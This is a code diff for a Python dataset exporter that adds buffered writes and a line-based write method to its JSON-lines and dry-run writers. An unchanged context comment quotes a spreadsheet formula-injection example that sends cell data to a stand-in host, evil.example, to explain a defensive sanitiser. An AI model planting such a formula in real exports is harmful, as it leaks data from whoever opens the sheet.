@@ -8,6 +8,9 @@ from typing import IO, Any
 import orjson
 
 SPLITS = ("train", "validation")
+# Records are a few KB: with the default 8 KB buffer every few records cost a write call
+# (5-10% of the exporting process's time in issue 21's profile).
+WRITE_BUFFER = 1 << 20
 # A spreadsheet runs a cell that starts with one of these as a formula, so a prompt holding
 # `=HYPERLINK("https://evil.example/?"&A1, "click")` could send the sheet's data away from the
 # analyst who opens an export. OWASP's rule: a leading single quote makes the cell text.
@@ -23,7 +26,15 @@ def spreadsheet_safe(value: Any) -> Any:
 
 
 class Writer:
+    # Whether `write_line` takes a record already written as its JSON line (the JSON-lines
+    # writers): the pipeline then makes the line where the record is built (exporters.prepare).
+    takes_lines: bool = False
+
     def write(self, split: str, record: dict[str, Any]) -> None:
+        raise NotImplementedError
+
+    def write_line(self, split: str, line: bytes) -> None:
+        """A record as one JSON line, ending in a newline, as `write` would write it."""
         raise NotImplementedError
 
     def split_files(self) -> dict[str, tuple[Path, int]]:
@@ -47,12 +58,18 @@ class JsonlSplits(Writer):
         self.counts: dict[str, int] = dict.fromkeys(SPLITS, 0)
         self._files: dict[str, IO[bytes]] = {}
 
+    takes_lines = True
+
     def write(self, split: str, record: dict[str, Any]) -> None:
+        self.write_line(split, orjson.dumps(record, option=orjson.OPT_APPEND_NEWLINE))
+
+    def write_line(self, split: str, line: bytes) -> None:
         file = self._files.get(split)
         if file is None:
             self.dir.mkdir(parents=True, exist_ok=True)
-            file = self._files[split] = open(self.dir / f"{split}{self.suffix}", "wb")  # noqa: SIM115
-        file.write(orjson.dumps(record) + b"\n")
+            path = self.dir / f"{split}{self.suffix}"
+            file = self._files[split] = open(path, "wb", buffering=WRITE_BUFFER)  # noqa: SIM115
+        file.write(line)
         self.counts[split] = self.counts.get(split, 0) + 1
 
     def split_files(self) -> dict[str, tuple[Path, int]]:
@@ -74,10 +91,15 @@ class JsonlSplits(Writer):
 class CountOnly(Writer):
     """A dry run (the admin API's preview): counts, no files."""
 
+    takes_lines = True
+
     def __init__(self) -> None:
         self.counts: dict[str, int] = dict.fromkeys(SPLITS, 0)
 
     def write(self, split: str, record: dict[str, Any]) -> None:
+        self.counts[split] = self.counts.get(split, 0) + 1
+
+    def write_line(self, split: str, line: bytes) -> None:
         self.counts[split] = self.counts.get(split, 0) + 1
 
     def close(self) -> list[Path]:
